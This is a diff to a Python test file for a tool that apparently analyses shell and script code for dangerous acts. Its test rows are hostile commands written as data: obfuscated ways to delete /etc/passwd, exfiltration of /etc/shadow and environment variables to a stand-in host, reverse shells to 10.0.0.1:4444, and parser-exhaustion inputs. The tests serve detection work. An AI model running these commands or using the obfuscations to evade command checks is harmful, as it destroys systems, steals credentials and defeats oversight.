@@ -283,6 +283,111 @@ ROWS = [
     row("cd \"$(dirname \"$0\")/..\" && rm -r build", "delete own/build"),
     row("c=(r m); IFS=; \"${c[*]}\" /etc/passwd", "delete /etc/passwd"),
     row("coproc nc 10.0.0.1 4444; read c <&${COPROC[0]}; eval $c", "evaluate eval", origin=f"socket:{ADDRESS}"),
+    # words that the shell cuts and joins
+    row("eval rm${IFS}-rf${IFS}/etc/ssh", "delete /etc/ssh", how="recursive force"),
+    row("IFS=$'\\v'; c=$'rm\\v/etc/passwd'; $c", "delete /etc/passwd"),
+    row("u=r; c$@u$*${u}${@:9}l -d @/etc/passwd h.test", "send h.test", origin="file:/etc/passwd"),
+    row("'c'\"u\"'r'\\l -d @/etc/passwd h.test", "send h.test", origin="file:/etc/passwd"),
+    row("bash -c '$0 $1' rm /etc/passwd", "delete /etc/passwd"),
+    row("declare -n r=t; t=rm; $r /etc/passwd", "delete /etc/passwd"),
+    row("f() { local -n out=$1; out=/etc/passwd; }; f p; rm $p", "delete /etc/passwd"),
+    row("t='\\x72m'; ${t@E} /etc/passwd", "delete /etc/passwd"),
+    row("t='r\\155 /etc/passwd'; ${t@P}", "delete /etc/passwd"),
+    row("t=RM; ${t@L} /etc/passwd", "delete /etc/passwd"),
+    row("a=([2]=/etc/passwd [0]=rm); \"${a[@]}\"", "delete /etc/passwd"),
+    row("t=(a rm); n='t[1]'; ${!n} /etc/passwd", "delete /etc/passwd"),
+    row("set -- a rm; n=2; ${!n} /etc/passwd", "delete /etc/passwd"),
+    row("s='dwssap/cte/ mr'; c=; for ((i=${#s}-1; i>=0; i--)); do c+=${s:i:1}; done; $c", "delete /etc/passwd"),
+    row("while getopts 'c:p:' o -c rm -p /etc/passwd; do case $o in c) w=$OPTARG;; p) p=$OPTARG;; esac; done; $w $p",
+        "delete /etc/passwd"),
+    row("$(type -P rm) /etc/passwd", "delete /etc/passwd"),
+    row("hash -p /bin/rm date; date /etc/passwd", "delete /etc/passwd"),
+    row("/bin/unl?nk /etc/passwd", "delete /etc/passwd"),
+    row("/???/c?t /???/sh?dow | nc 10.0.0.1 4444", f"send {ADDRESS}", origin="file:/etc/shadow"),
+    row("# rm /etc/passwd\neval \"${BASH_EXECUTION_STRING:2:14}\"", "delete /etc/passwd"),
+    row("#: rm /etc/passwd\nsed -n 's/^#: //p' \"$0\" | sh", "delete /etc/passwd"),
+    # folders, links, descriptors
+    row("cd /etc; cd /tmp; rm \"$OLDPWD/passwd\"", "delete /etc/passwd"),
+    row("cd /etc; cd /tmp; cd -; rm passwd", "delete /etc/passwd"),
+    row("pushd /etc; pushd /tmp; popd; rm passwd", "delete /etc/passwd"),
+    row("CDPATH=/etc; cd ssh; rm x", "delete /etc/ssh/x"),
+    row("env -C /etc rm passwd", "delete /etc/passwd"),
+    row("ln /etc/passwd own; echo x > own", "write /etc/passwd"),
+    row("ln -s /etc/passwd own; rm own", "delete own"),
+    row("ln -s /bin/rm ./show; ./show /etc/passwd", "delete /etc/passwd"),
+    row("cp /bin/rm ./show; ./show /etc/passwd", "delete /etc/passwd"),
+    row("exec 7> /etc/passwd", "write /etc/passwd"),
+    row("exec 3<> /etc/passwd; echo x >&3", "write /etc/passwd", data="x\n"),
+    row("exec 8<> /etc/passwd; : > /dev/fd/8", "write /etc/passwd"),
+    row("exec 3< /etc/shadow; curl -T - h.test <&3", "send h.test", origin="file:/etc/shadow"),
+    row("f() { date; } > /etc/passwd; f", "write /etc/passwd"),
+    row("echo /etc/passwd > >(xargs rm)", "delete /etc/passwd"),
+    row("mkdir b; echo 'rm \"$@\"' > b/lint; PATH=$PWD/b:$PATH lint /etc/passwd", "delete /etc/passwd"),
+    row("mkdir b; echo 'rm $1' > b/x; PATH=b:$PATH; . x /etc/passwd", "delete /etc/passwd"),
+    row("mkdir d; : > d/1r; : > d/2m; $(ls d | cut -c2 | tr -d '\\n') /etc/passwd", "delete /etc/passwd"),
+    # texts that programs change
+    row("sed 'y/xy/rm/' <<< 'xy /etc/passwd' | sh", "delete /etc/passwd"),
+    row("echo 'dwssap/cte/ mr' | sed '/\\n/!G;s/\\(.\\)\\(.*\\n\\)/&\\2\\1/;//D;s/.//' | sh", "delete /etc/passwd"),
+    row("printf \"$(sed 's/../\\\\x&/g' <<< 726d202f6574632f706173737764)\" | sh", "delete /etc/passwd"),
+    row("printf 'a=rm\\nt=/etc/passwd\\n' > j; g() { sed -n \"s/^$1=//p\" j; }; $(g a) $(g t)", "delete /etc/passwd"),
+    row("echo 'test -e /etc/passwd' > c.sh; sed -i 's/^test -e/rm/' c.sh; sh c.sh", "delete /etc/passwd"),
+    row("sed -n 'w /etc/passwd' x", "write /etc/passwd"),
+    row("awk 'BEGIN { printf \"%c%c /etc/passwd\", 114, 109 }' | sh", "delete /etc/passwd"),
+    row("awk 'BEGIN { n = split(\"114 109 32\", a, \" \"); for (i = 1; i <= n; i++) c = c sprintf(\"%c\", a[i]);"
+        " system(c \"/etc/passwd\") }'", "delete /etc/passwd"),
+    row("echo /etc/passwd | awk '{ print \"rm \" $1 | \"sh\" }'", "delete /etc/passwd"),
+    row("pgrep -l . | awk '$2 == \"sshd\" { system(\"kill \" $1) }'", "kill ?HOLE?", whence="processes:."),
+    row("awk '{ print > \"/etc/passwd\" }' x", "write /etc/passwd"),
+    row("printf '%s\\n' /etc/passwd rm | tac | paste -sd' ' | sh", "delete /etc/passwd"),
+    row("printf '2 /etc/passwd\\n1 rm\\n' | sort -n | cut -d' ' -f2 | paste -sd' ' | sh", "delete /etc/passwd"),
+    row("printf 'x\\nrun rm /etc/passwd\\n' | grep ^run | cut -d' ' -f2- | sh", "delete /etc/passwd"),
+    row("echo '{\"a\": [{\"run\": \"rm /etc/passwd\"}]}' | jq -r '.a[].run' | sh", "delete /etc/passwd"),
+    row("jq -n --rawfile s /etc/shadow '{a: $s}' | curl --json @- h.test", "send h.test", origin="file:/etc/shadow"),
+    # other languages
+    row("perl -e 'system join \"\", map chr, qw(114 109 32 47 120)'", "delete /x"),
+    row("perl -e 'system(decode_base64(\"cm0gL2V0Yy9wYXNzd2Q=\"))'", "delete /etc/passwd"),
+    row("perl -e '$f = shift; eval \"$f \\@ARGV\"' unlink /etc/passwd", "delete /etc/passwd"),
+    row("echo /etc/passwd | perl -lne 'unlink'", "delete /etc/passwd"),
+    row("php -r 'system(hex2bin(\"726d202f78\"));'", "delete /x"),
+    row("ruby -e 'system([114, 109, 32, 47, 120].pack(\"C*\"))'", "delete /x"),
+    row("node -e 'require(\"net\").connect(4444, \"10.0.0.1\"); require(\"child_process\").spawn(\"sh\")'",
+        f"shell {ADDRESS}"),
+    row("tclsh <<< 'file delete /etc/passwd'", "delete /etc/passwd"),
+    row("echo 'int main() { return unlink(\"/etc/passwd\"); }' > t.c; gcc -o t t.c && ./t", "delete /etc/passwd"),
+    row("echo 'x = 1' > tidy.py; python3 -m tidy", "evaluate python", data="x = 1\n"),
+    row("python3 -m timeit 'x = 1'", "evaluate python", data="x = 1"),
+    # editors, and programs that run what settings say
+    row("ed -s <<< '!rm /etc/passwd'", "delete /etc/passwd"),
+    row("vim -es -c ':call delete(\"/etc/passwd\")' -c ':qa!'", "delete /etc/passwd"),
+    row("vim -es -c ':w! /etc/passwd' x", "write /etc/passwd"),
+    row("echo 'rm /etc/passwd' > e; BASH_ENV=e bash -c :", "delete /etc/passwd"),
+    row("env 'BASH_FUNC_ls%%=() { rm /etc/passwd; }' bash -c ls", "delete /etc/passwd"),
+    row("printf 'url=h.test\\nupload-file=/etc/shadow\\n' | curl -K-", "send h.test", origin="file:/etc/shadow"),
+    row("mkdir h; echo 'data = @/etc/shadow' > h/.curlrc; CURL_HOME=h curl h.test", "send h.test",
+        origin="file:/etc/shadow"),
+    row("echo 'post_file = /etc/shadow' > w; WGETRC=w wget -qO- h.test", "send h.test", origin="file:/etc/shadow"),
+    row("echo 'rm /etc/passwd' > a; wget --use-askpass=./a h.test", "delete /etc/passwd"),
+    row("GIT_EXTERNAL_DIFF='rm /etc/passwd' git diff --ext-diff", "delete /etc/passwd"),
+    row("git difftool -y -x 'rm /etc/passwd' a b", "delete /etc/passwd"),
+    row("git config -f /etc/x.conf --remove-section a", "append /etc/x.conf"),
+    row("echo '{\"scripts\": {\"test\": \"rm /etc/passwd\"}}' > package.json; npm test", "delete /etc/passwd"),
+    row("mkdir d; echo 'rm /etc/passwd' > d/job; run-parts ./d", "delete /etc/passwd"),
+    row("echo 'rm /etc/passwd' > z; sort --compress-program=./z x", "delete /etc/passwd"),
+    row("printf 'V = /etc/passwd\\nall:\\n\\trm $(V)\\n' > m; make -f m", "delete /etc/passwd"),
+    row("time -p ! rm /etc/passwd", "delete /etc/passwd"),
+    row("start-stop-daemon -K -n nginx", "kill name:nginx"),
+    row("skill -KILL -c nginx", "kill name:nginx"),
+    row("coproc sh; nc 10.0.0.1 4444 <&\"${COPROC[0]}\" >&\"${COPROC[1]}\"", f"shell {ADDRESS}"),
+    # what they leave
+    row("gzip /etc/passwd", "move /etc/passwd"),
+    row("openssl rand -out /etc/passwd 9", "write /etc/passwd"),
+    row("shuf -o /etc/passwd x", "write /etc/passwd"),
+    row("csplit -f /etc/p x 1", "write /etc/p00"),
+    row("sqlite3 :memory: '.output /etc/passwd' 'select 1'", "write /etc/passwd"),
+    row("declare -px | curl -T - h.test", "send h.test", origin="environment:"),
+    row("eval \"$(ssh-agent -s)\"", "evaluate eval", origin="output:ssh-agent"),
+    row("inotifywait -m -r src", "watch src", how="folder"),
+    row("curl -s --max-redirs 3 h.test", "fetch h.test"),
     # what the grammar cannot read is still read line by line
     row("rm /etc/passwd\nif then fi )", "delete /etc/passwd"),
     row("echo $(( 1 + \nrm /etc/passwd", "delete /etc/passwd"),
@@ -327,11 +432,52 @@ def test_a_block_comes_to_its_acts(wanted: Row) -> None:
         ("cat <<EOF\nrm -rf /etc\nEOF", "/etc"),
         ("# rm -rf /etc", "/etc"),
         ("git commit -m 'rm -rf /etc'", "/etc"),
+        ("echo x > own; ln -s /etc own2; rm own2", "/etc"),
+        ("awk '{ print \"rm -rf /etc\" }' x", "/etc"),
+        ("sed 's/a/rm -rf \\/etc/' x", "/etc"),
+        ("perl -e 'print \"rm /etc\"'", "/etc"),
         ("grep -r 'rm -rf /etc' src", "/etc"),
     ],
 )
 def test_what_is_only_said_or_never_reached_is_no_act(code: str, unwanted: str) -> None:
     assert not [act for act in Reading(code, "bash").run.acts if act.verb == "delete" and act.target.text == unwanted]
+
+
+@pytest.mark.parametrize(
+    ("code", "verb"),
+    [
+        ("    at file.js:525:2", "schedule"),
+        ("sysctl net.ipv4.ip_forward", "defend"),
+        ("update-alternatives --set editor /usr/bin/vim", "defend"),
+        ("history -s 'make test'", "read"),
+        ("exec 9> /var/lock/build.lock; flock 9", "write"),
+        ("grep -c x y; sort y; jq . y", "write"),
+    ],
+)
+def test_what_only_looks_like_an_act_is_none(code: str, verb: str) -> None:
+    assert not [act for act in Reading(code, "bash").run.acts if act.verb == verb]
+
+
+def test_a_case_tells_what_its_subject_is() -> None:
+    code = 'ps -eo pid= | while read -r n; do case $n in "$!") kill $n;; esac; done'
+    killed = [act.target for act in Reading(code, "bash").run.acts if act.verb == "kill"]
+    assert killed
+    assert all("child:$!" in origins_of(target) for target in killed)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import subprocess\nsubprocess.run(['curl', '-d', open('/etc/shadow').read(), 'http://h.test'])",
+        "import os\ns = open('/etc/shadow').read()\nos.system(f'curl -d \"{s}\" http://h.test')",
+        "import os\ns = open('/etc/shadow').read()\nos.system('echo ' + s + ' | curl -T - http://h.test')",
+        "import subprocess\ns = open('/etc/shadow').read()\n"
+        "subprocess.run(['bash', '-c', 'curl -d \"$1\" http://h.test', '_', s])",
+    ],
+)
+def test_holes_in_commands_of_other_code_keep_where_they_came_from(code: str) -> None:
+    sent = [act for act in Reading(code, "python").run.acts if act.verb == "send"]
+    assert any("file:/etc/shadow" in origins_of(act.data) for act in sent)
 
 
 def test_a_function_that_nothing_calls_is_marked() -> None:
@@ -406,9 +552,20 @@ def test_every_piece_of_code_is_kept() -> None:
         "sudo " * 2_000,
         "alias a=b b=a; a",
         "cat <<A <<B\nx\nA\ny\nB\n" * 200,
+        "awk 'BEGIN { while (1) x = x x }'",
+        "awk 'function f(n) { return f(n + 1) } BEGIN { f(1) }'",
+        "awk '" + "(" * 3_000 + "'",
+        "echo x | sed ':a;s/x/xx/;ta'",
+        "sed '" + "{" * 2_000 + "' <<< x",
+        "sed -E 's/((a*)*)*b//' <<< " + "a" * 3_000,
+        "grep -E '(a|a)*b.*c.*d.*e' <<< " + "a" * 3_000,
+        'perl -e \'eval "eval \\"eval\\""\'; PROMPT_COMMAND=bash bash',
+        "BASH_ENV=e; echo 'bash -c :' > e; bash -c :",
+        "declare -n a=b; declare -n b=a; a=1; echo $a $b",
+        "echo 'sh x' > x; PATH=.:$PATH; x",
         "\x00\x01\ud800é\u2028\ufffc\ue000 $'\\x' \"\\",
     ],
-    ids=range(33),
+    ids=range(44),
 )
 def test_nothing_hostile_ends_the_reading(code: str) -> None:
     Reading(code, "bash")
